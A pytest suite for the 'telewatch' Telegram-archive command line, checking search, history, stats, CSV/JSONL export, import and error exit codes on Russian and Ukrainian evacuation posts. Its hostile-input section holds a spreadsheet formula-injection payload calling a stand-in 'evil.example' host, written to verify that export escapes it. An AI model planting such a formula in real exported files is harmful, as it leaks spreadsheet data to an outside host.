"""The ``telewatch`` command, end to end through click's test runner (and one real process for
the exit code): documented commands, JSON shapes, channel references, CSV that spreadsheets
open, and one-line errors with the right exit codes."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result

from archiver.cli import cli
from archiver.models import ChannelInfo, Forward, Post
from archiver.store.archive import Archive
from archiver.store.channels import upsert_channel
from archiver.store.deletions import mark_deleted
from archiver.store.ingest import ingest

ROOT = Path(__file__).resolve().parent.parent
RU, UK = -1001811111111, -1002222222222
T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)

SEARCH_KEYS = {
    "channel_id", "channel", "channel_title", "message_id", "date", "text", "snippet", "link",
    "edited", "deleted", "views", "forwarded_from",
}  # fmt: skip


@pytest.fixture(autouse=True)
def clean_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """No config from the machine, and the root logger restored (the CLI configures it)."""
    for var in ("TELEWATCH_CONFIG", "TELEWATCH_API_ID", "TELEWATCH_API_HASH",
                "TELEWATCH_BOT_TOKEN", "TELEWATCH_SESSION"):  # fmt: skip
        monkeypatch.delenv(var, raising=False)
    monkeypatch.chdir(tmp_path)
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    yield
    root.handlers[:] = handlers
    root.setLevel(level)


async def _populate(path: Path) -> None:
    async with await Archive.open(path) as a:
        await upsert_channel(a, ChannelInfo(RU, "vsaldo", "Сальдо"), source="telethon")
        await upsert_channel(a, ChannelInfo(UK, None, "Херсонська ОДА"), source="export")
        await ingest(
            a,
            [
                Post(RU, 1, T0, "Объявлена эвакуация жителей Херсона", views=1500),
                Post(RU, 2, T0 + timedelta(days=1), "Эвакуация отменена; \"кавычки\", запятые"),
                Post(RU, 3, T0 + timedelta(days=2), "Рынок закрыт",
                     forward=Forward(UK, "Херсонська ОДА", 9)),
                Post(UK, 1, T0 + timedelta(days=3), "Евакуація з Херсона триває"),
            ],
            source="telethon",
            alerts=False,
        )  # fmt: skip
        await ingest(
            a,
            [Post(RU, 2, T0 + timedelta(days=1), "Эвакуация перенесена на завтра",
                  edit_date=T0 + timedelta(days=1, hours=2))],
            source="telethon",
            alerts=False,
        )  # fmt: skip
        await mark_deleted(a, RU, [3], how="live", alerts=False)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "data" / "a.db"
    asyncio.run(_populate(path))
    return path


def run(*args: str, db: Path | None = None, input: str | None = None) -> Result:
    argv = (["--db", str(db)] if db is not None else []) + list(args)
    return CliRunner().invoke(cli, argv, input=input, catch_exceptions=False)


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip()]


# ---------------------------------------------------------------------------- documentation


def _walk(cmd: click.Command, path: str) -> Iterator[tuple[str, click.Command]]:
    yield path, cmd
    if isinstance(cmd, click.Group):
        for name, sub in sorted(cmd.commands.items()):
            yield from _walk(sub, f"{path} {name}")


COMMANDS = list(_walk(cli, "telewatch"))


@pytest.mark.parametrize(("path", "cmd"), COMMANDS, ids=[p for p, _ in COMMANDS])
def test_every_command_is_documented_with_an_example(path: str, cmd: click.Command) -> None:
    assert cmd.help and cmd.help.strip(), f"{path} has no docstring"
    if isinstance(cmd, click.Group):
        return
    assert "Example" in cmd.help, f"{path}: its docstring has no Example"
    example = cmd.help.split("Example", 1)[1]
    assert "telewatch" in example and path.split(" ", 1)[1].split()[0] in example


def test_help_works_for_every_command() -> None:
    for path, _ in COMMANDS:
        result = run(*path.split()[1:], "--help")
        assert result.exit_code == 0, path
        assert "Usage:" in result.output


# ---------------------------------------------------------------------------- search


def test_search_json_has_exactly_the_documented_keys(db: Path) -> None:
    result = run("search", "эвакуация", "--json", db=db)
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in lines(result.stdout)]
    assert [r["message_id"] for r in rows] == [2, 1]  # newest first
    for r in rows:
        assert set(r) == SEARCH_KEYS
    edited, first = rows
    assert edited["text"] == "Эвакуация перенесена на завтра"
    assert edited["edited"] is True and edited["deleted"] is False
    assert first == {
        "channel_id": RU,
        "channel": "vsaldo",
        "channel_title": "Сальдо",
        "message_id": 1,
        "date": "2024-05-01T12:00:00Z",
        "text": "Объявлена эвакуация жителей Херсона",
        "snippet": "Объявлена **эвакуация** жителей Херсона",
        "link": "https://t.me/vsaldo/1",
        "edited": False,
        "deleted": False,
        "views": 1500,
        "forwarded_from": None,
    }


def test_search_json_of_a_channel_without_username_and_a_deleted_forward(db: Path) -> None:
    (uk,) = [json.loads(x) for x in lines(run("search", "евакуація", "--json", db=db).stdout)]
    assert (uk["channel"], uk["link"]) == (None, "https://t.me/c/2222222222/1")
    (ru,) = [json.loads(x) for x in lines(run("search", "рынок", "--json", db=db).stdout)]
    assert (ru["deleted"], ru["forwarded_from"], ru["views"]) == (True, "Херсонська ОДА", None)


@pytest.mark.parametrize(
    "ref",
    ["vsaldo", "@vsaldo", "1811111111", "-1001811111111", "https://t.me/vsaldo",
     "t.me/s/vsaldo", "https://t.me/vsaldo/2", "https://t.me/c/1811111111/1"],
)  # fmt: skip
def test_channel_option_accepts_every_reference(db: Path, ref: str) -> None:
    result = run("search", "херсон OR херсона", "--channel", ref, "--json", db=db)
    assert result.exit_code == 0, result.output
    assert [json.loads(x)["channel_id"] for x in lines(result.stdout)] == [RU]


def test_channel_option_repeats_and_since_until(db: Path) -> None:
    both = run("search", "херсон", "--channel", "vsaldo", "--channel", "2222222222", "--json",
               db=db)  # fmt: skip
    assert {json.loads(x)["channel_id"] for x in lines(both.stdout)} == {RU, UK}
    window = run("search", "эвакуация", "--since", "2024-05-02", "--until", "2024-05-02",
                 "--json", db=db)  # fmt: skip
    assert [json.loads(x)["message_id"] for x in lines(window.stdout)] == [2]


def test_search_human_output(db: Path, tmp_path: Path) -> None:
    cfg = tmp_path / "kyiv.toml"
    cfg.write_text('[display]\ntimezone = "Europe/Kyiv"\n')
    result = run("--config", str(cfg), "search", "эвакуацию", db=db)
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert "2024-05-01 15:00  vsaldo" in out  # 12:00 UTC is 15:00 in Kyiv in May
    assert "Объявлена [эвакуация] жителей Херсона" in out
    assert "https://t.me/vsaldo/1" in out
    assert "(edited)" in out
    assert out.rstrip().endswith("2 result(s)")


def test_search_limit_and_relevance(db: Path) -> None:
    one = run("search", "эвакуация", "--limit", "1", db=db)
    assert "1 result(s) (--limit reached)" in one.stdout
    rel = run("search", "эвакуация", "--sort", "relevance", "--json", db=db)
    assert sorted(json.loads(x)["message_id"] for x in lines(rel.stdout)) == [1, 2]


def test_a_bad_query_is_one_line_and_exit_2(db: Path) -> None:
    result = run("search", '"эвакуация', db=db)
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr == "Error: query '\"эвакуация': unbalanced quote at 1\n"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["search", "эвакуация OR"], "OR needs a term on both sides at 11"),
        (["search", "x", "--since", "yesterday"], "since: expected YYYY-MM-DD, got 'yesterday'"),
        (["export", "(рынок"], "unbalanced parenthesis '(' at 1"),
        (["search", "x", "--channel", "bad!"], "'bad!' is not a channel"),
    ],
)
def test_query_and_option_errors_exit_2(db: Path, args: list[str], message: str) -> None:
    result = run(*args, db=db)
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1
    assert result.stderr.startswith("Error: ")
    assert message in result.stderr


def test_a_channel_option_with_a_space_is_refused(db: Path) -> None:
    result = run("search", "херсона", "--channel", "vsaldo рынок", db=db)
    assert result.exit_code == 2
    assert "'vsaldo рынок' is not a channel" in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["history", "-1001811111111", "3"],
        ["search", "-учения эвакуация"],
        ["export", "-учения", "--format", "jsonl"],
    ],
)
def test_arguments_may_start_with_a_minus(db: Path, args: list[str]) -> None:
    result = run(*args, db=db)
    assert result.exit_code == 0, result.stderr


def test_an_unknown_channel_is_exit_1(db: Path) -> None:
    result = run("search", "эвакуация", "--channel", "nosuchchannel", db=db)
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 1
    assert "no archived channel matches 'nosuchchannel'" in result.stderr
    hist = run("history", "nosuchchannel", "1", db=db)
    assert hist.exit_code == 1 and "nosuchchannel" in hist.stderr


@pytest.mark.parametrize(
    "args", [["search", "x"], ["history", "vsaldo", "1"], ["export"], ["stats"]]
)
def test_a_missing_archive_is_a_clear_message(tmp_path: Path, args: list[str]) -> None:
    missing = tmp_path / "nothing" / "here.db"
    result = run(*args, db=missing)
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {missing}: no archive here yet; run `telewatch import` or `telewatch sync` first\n"
    )
    assert not missing.exists()  # reading never creates an archive


def test_a_bad_config_is_exit_2_naming_the_key(tmp_path: Path, db: Path) -> None:
    cfg = tmp_path / "bad.toml"
    cfg.write_text("[storage]\npath = 5\n")
    result = run("--config", str(cfg), "stats")
    assert result.exit_code == 2
    assert result.stderr == f"Error: {cfg}: storage.path: expected a string, got 5\n"


def test_config_from_the_environment(
    tmp_path: Path, db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cfg = tmp_path / "env.toml"
    cfg.write_text(f'[storage]\npath = "{db}"\n')
    monkeypatch.setenv("TELEWATCH_CONFIG", str(cfg))
    result = run("stats", "--json")
    assert result.exit_code == 0, result.output
    assert len(lines(result.stdout)) == 2


def test_default_config_file_in_the_current_directory(tmp_path: Path, db: Path) -> None:
    (tmp_path / "config.toml").write_text(f'[storage]\npath = "{db}"\n')
    assert len(lines(run("stats", "--json").stdout)) == 2


# ---------------------------------------------------------------------------- history, stats


def test_history_json_shape(db: Path) -> None:
    result = run("history", "vsaldo", "2", "--json", db=db)
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert set(data) == {
        "channel_id", "message_id", "versions", "current_version", "state", "deleted",
        "deleted_at", "deleted_how", "deleted_evidence", "events",
    }  # fmt: skip
    assert (data["channel_id"], data["message_id"], data["deleted"]) == (RU, 2, False)
    assert data["deleted_at"] is None
    assert [v["text"] for v in data["versions"]] == [
        'Эвакуация отменена; "кавычки", запятые',
        "Эвакуация перенесена на завтра",
    ]
    for v in data["versions"]:
        assert set(v) == {"text", "edit_date", "seen_at", "source", "sha256"}
        assert len(v["sha256"]) == 64
    assert data["versions"][0]["edit_date"] is None
    assert data["versions"][1]["edit_date"] == "2024-05-02T14:00:00Z"


def test_history_of_a_deleted_post_and_human_output(db: Path) -> None:
    data = json.loads(run("history", "https://t.me/vsaldo/3", "3", "--json", db=db).stdout)
    assert data["deleted"] is True and data["deleted_at"].endswith("Z")
    human = run("history", "1811111111", "3", db=db).stdout
    assert "Рынок закрыт" in human and "DELETED" in human


def test_history_of_a_missing_post(db: Path) -> None:
    result = run("history", "vsaldo", "999", db=db)
    assert result.exit_code == 1
    assert "vsaldo: no post 999 in the archive" in result.stderr


def test_stats_json(db: Path) -> None:
    result = run("stats", "--json", db=db)
    assert result.exit_code == 0, result.output
    rows = {r["channel_id"]: r for r in map(json.loads, lines(result.stdout))}
    ru, uk = rows[RU], rows[UK]
    assert (ru["posts"], ru["edits"], ru["deletions"]) == (3, 1, 1)
    assert (ru["first_post"], ru["last_post"]) == ("2024-05-01T12:00:00Z", "2024-05-03T12:00:00Z")
    assert (uk["posts"], uk["channel"], uk["title"]) == (1, None, "Херсонська ОДА")
    human = run("stats", db=db).stdout
    assert "vsaldo" in human and "3 posts, 1 edited (1 new versions seen), 1 deletions" in human
    assert "last full re-read never" in human
    # Coverage per channel: the ids archived as ranges, ids never seen, watch windows.
    assert ru["coverage"]["id_ranges"] == [[1, 3]] and ru["coverage"]["ids_never_seen"] == 0
    assert ru["coverage"]["states"] == {"deleted": 1, "present": 2}
    assert ru["missing_unconfirmed"] == 0 and ru["last_full_check"] is None


# ---------------------------------------------------------------------------- export


def test_export_csv_has_a_bom_and_round_trips_cyrillic(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    result = run("export", "эвакуация OR рынок", "--format", "csv", "--output", str(out), db=db)
    assert result.exit_code == 0, result.output
    assert result.stderr.strip() == f"{out}: 3 post(s) written"
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
    assert b"\r\n" in raw
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == [
        "channel_id", "channel", "channel_title", "message_id", "date", "text", "snippet",
        "link", "edited", "deleted", "views", "forwarded_from", "state", "version_count",
        "first_text", "edit_times", "deleted_at", "deleted_how", "deletion_evidence",
    ]  # fmt: skip
    by_id = {int(r["message_id"]): r for r in rows}
    assert set(by_id) == {1, 2, 3}
    assert by_id[1]["text"] == "Объявлена эвакуация жителей Херсона"
    assert by_id[1]["views"] == "1500"
    assert by_id[3]["deleted"] == "true" and by_id[3]["forwarded_from"] == "Херсонська ОДА"
    assert by_id[2]["channel_title"] == "Сальдо"
    # Every version's story: the first text, how many, when edited, how the deletion is known.
    assert by_id[2]["first_text"] == 'Эвакуация отменена; "кавычки", запятые'
    assert (by_id[2]["version_count"], by_id[2]["edit_times"]) == ("2", "2024-05-02T14:00:00Z")
    assert by_id[3]["state"] == "deleted" and by_id[3]["deleted_how"] == "live"
    assert by_id[3]["deletion_evidence"] == "Telegram reported the deletion"
    assert by_id[3]["deleted_at"].endswith("Z")


def test_export_csv_keeps_quotes_and_commas(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "quotes.csv"
    run("export", "отменена", "--output", str(out), db=db)  # csv is the default
    with out.open(encoding="utf-8-sig", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["text"] == "Эвакуация перенесена на завтра"  # the latest text
    assert row["snippet"] == 'Эвакуация **отменена**; "кавычки", запятые'  # the matched version


def test_export_csv_to_stdout(db: Path) -> None:
    result = run("export", "--format", "csv", db=db)
    assert result.stdout.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    assert len(rows) == 4  # no query: everything


def test_export_jsonl(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    result = run(
        "export", "херсон", "--channel", "vsaldo", "--format", "jsonl", "--output", str(out), db=db
    )
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [(r["channel_id"], r["message_id"]) for r in rows] == [(RU, 1)]
    assert set(rows[0]) == SEARCH_KEYS | {
        "state", "version_count", "first_text", "edit_times", "deleted_at", "deleted_how",
        "deletion_evidence", "versions",
    }  # fmt: skip
    assert [v["text"] for v in rows[0]["versions"]] == ["Объявлена эвакуация жителей Херсона"]
    assert "Херсона" in out.read_text(encoding="utf-8")  # not \u-escaped


# ---------------------------------------------------------------------------- config, import


def test_config_check_of_the_example(tmp_path: Path) -> None:
    result = run("--config", str(ROOT / "config.example.toml"), "config", "check")
    assert result.exit_code == 0, result.output
    assert result.stdout.rstrip().endswith("config OK")
    assert "channels: 2" in result.stdout and "rules: 2" in result.stdout


def test_config_check_never_prints_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TELEWATCH_API_HASH", "abcdef0123456789abcdef0123456789")
    monkeypatch.setenv("TELEWATCH_BOT_TOKEN", "123456789:AAHsecretsecretsecretsecretsecret12")
    monkeypatch.setenv("TELEWATCH_SESSION", "1BVtsOKsecretsessionstring==")
    result = run("config", "check")
    assert result.exit_code == 0, result.output
    assert "built-in defaults" in result.stdout
    for secret in ("abcdef0123456789", "AAHsecret", "secretsession"):
        assert secret not in result.output
    assert "api_hash set" in result.stdout and "token set" in result.stdout


EXPORT = {
    "name": "Сальдо",
    "type": "public_channel",
    "id": 1811111111,
    "messages": [
        {"id": 1, "type": "service", "date": "2024-05-01T15:00:00", "date_unixtime": "1714564800",
         "actor": "Сальдо", "actor_id": "channel1811111111", "action": "create_channel",
         "title": "Сальдо", "text": "", "text_entities": []},
        {"id": 2, "type": "message", "date": "2024-05-01T15:01:00", "date_unixtime": "1714564860",
         "from": "Сальдо", "from_id": "channel1811111111",
         "text": ["Срочно: ", {"type": "bold", "text": "эвакуация"}, " жителей"],
         "text_entities": [{"type": "plain", "text": "Срочно: "},
                           {"type": "bold", "text": "эвакуация"},
                           {"type": "plain", "text": " жителей"}]},
    ],
}  # fmt: skip


def test_import_then_search(tmp_path: Path) -> None:
    export = tmp_path / "result.json"
    export.write_text(json.dumps(EXPORT, ensure_ascii=False), encoding="utf-8")
    db = tmp_path / "imported.db"
    first = run("import", str(export), "--username", "@VSaldo", db=db)
    assert first.exit_code == 0, first.output
    assert "vsaldo: 2 posts added, 2 versions added" in first.stdout
    again = run("import", str(export), db=db)
    assert "0 posts added, 0 versions added" in again.stdout
    found = [json.loads(x) for x in lines(run("search", "эвакуацию", "--json", db=db).stdout)]
    assert [(f["link"], f["text"]) for f in found] == [
        ("https://t.me/vsaldo/2", "Срочно: эвакуация жителей")
    ]


def test_import_of_a_missing_file(tmp_path: Path) -> None:
    result = run("import", str(tmp_path / "nope.json"), db=tmp_path / "a.db")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[-1] == f"Error: {tmp_path / 'nope.json'}: no such file"


# ---------------------------------------------------------------------------- a real process


def test_the_installed_command_exits_2_without_a_traceback(db: Path, tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("TELEWATCH_")}
    proc = subprocess.run(
        [sys.executable, "-m", "archiver", "--db", str(db), "search", "(эвакуация"],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 2
    assert proc.stdout == ""
    assert proc.stderr == "Error: query '(эвакуация': unbalanced parenthesis '(' at 1\n"


# ---------------------------------------------------------------------------- hostile input
# Found by an independent end-to-end review: each of these printed a traceback or did the
# wrong thing silently.


@pytest.mark.parametrize("query", ["-shelling эвакуация", "-hello", "-scholar"])
def test_a_leading_minus_word_is_searched_never_taken_for_help(db: Path, query: str) -> None:
    result = run("search", query, "--json", db=db)
    assert result.exit_code == 0, result.output
    assert "Usage:" not in result.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["search", "channel:99999999999999999999999"], "is not a channel id"),
        (["search", "x", "--channel", "99999999999999999999999"], "is not a channel id"),
        (["history", "vsaldo", "99999999999999999999"], "is not in the range"),
        (["history", "99999999999999999999999", "1"], "is not a channel id"),
        (["search", "(" * 300 + "a" + ")" * 300], "nested too deep"),
        (["search", "NOT " * 3000 + "a"], "nested too deep"),
        (["search", " ".join(["-a"] * 3000)], "too many terms (3000; at most 100)"),
    ],
)
def test_huge_ids_and_monster_queries_are_one_line_errors(
    db: Path, args: list[str], message: str
) -> None:
    result = run(*args, db=db)
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    # One line, or click's usage error (usage, hint, error) for an argument out of range.
    assert len([line for line in result.stderr.splitlines() if line.strip()]) <= 3
    assert "Traceback" not in result.output


def test_csv_cells_never_become_formulas(tmp_path: Path) -> None:
    path = tmp_path / "f.db"

    async def fill() -> None:
        archive = await Archive.open(path)
        try:
            await upsert_channel(archive, ChannelInfo(-1001811111111, "vsaldo"), source="export")
            text = '=HYPERLINK("http://evil.example/?"&A1,"click") обстріл'
            await ingest(archive, [Post(-1001811111111, 1, T0, text)], source="export",
                         alerts=False)  # fmt: skip
        finally:
            await archive.close()

    asyncio.run(fill())
    out = tmp_path / "out.csv"
    result = run("export", "обстріл", "--output", str(out), db=path)
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert row["text"].startswith("'=HYPERLINK(")
    assert row["channel_id"] == "-1001811111111"  # numbers stay numbers


def test_a_foreign_sqlite_file_is_refused_untouched(tmp_path: Path) -> None:
    other = tmp_path / "other.db"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE invoices (id INTEGER)")
    result = run("import", str(ROOT / "archiver" / "data" / "sample_channel.json"), db=other)
    assert result.exit_code == 1
    assert "not a telewatch archive" in result.stderr
    with sqlite3.connect(other) as conn:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master")]
    assert tables == ["invoices"]


async def _populate_midnight(path: Path) -> None:
    async with await Archive.open(path) as a:
        await upsert_channel(a, ChannelInfo(RU, "vsaldo", "Сальдо"), source="telethon")
        late = datetime(2024, 5, 1, 22, 30, tzinfo=UTC)  # 2024-05-02 01:30 in Kyiv
        early = datetime(2024, 5, 1, 20, 0, tzinfo=UTC)  # 2024-05-01 23:00 in Kyiv
        posts = [Post(RU, 1, early, "Эвакуация вечером"), Post(RU, 2, late, "Эвакуация ночью")]
        await ingest(a, posts, source="telethon", alerts=False)


def test_since_and_until_are_days_in_the_display_time_zone(tmp_path: Path) -> None:
    path = tmp_path / "m.db"
    asyncio.run(_populate_midnight(path))
    cfg = tmp_path / "kyiv.toml"
    cfg.write_text('[display]\ntimezone = "Europe/Kyiv"\n')

    def ids(*args: str, config: Path | None = cfg) -> list[int]:
        pre = ["--config", str(config)] if config is not None else []
        result = run(*pre, "search", *args, "--json", db=path)
        assert result.exit_code == 0, result.output
        return [json.loads(x)["message_id"] for x in lines(result.stdout)]

    assert ids("эвакуация", "--since", "2024-05-02") == [2]
    assert ids("эвакуация since:2024-05-02") == [2]
    assert ids("эвакуация", "--until", "2024-05-01") == [1]
    assert ids("until:2024-05-01") == [1]
    assert ids("эвакуация since:2024-05-01 until:2024-05-01") == [1]
    # without a config the display time zone is UTC, and so are the days
    assert ids("эвакуация", "--since", "2024-05-02", config=None) == []


def test_search_with_no_results_hints_the_nearest_words_on_stderr(db: Path) -> None:
    result = run("search", "эвакуацыя", "--json", db=db)
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert result.stderr == (
        "No post has: эвакуацыя -> эвакуация. Try: telewatch search 'эвакуация'\n"
    )
    found = run("search", "эвакуация", db=db)
    assert found.stderr == ""
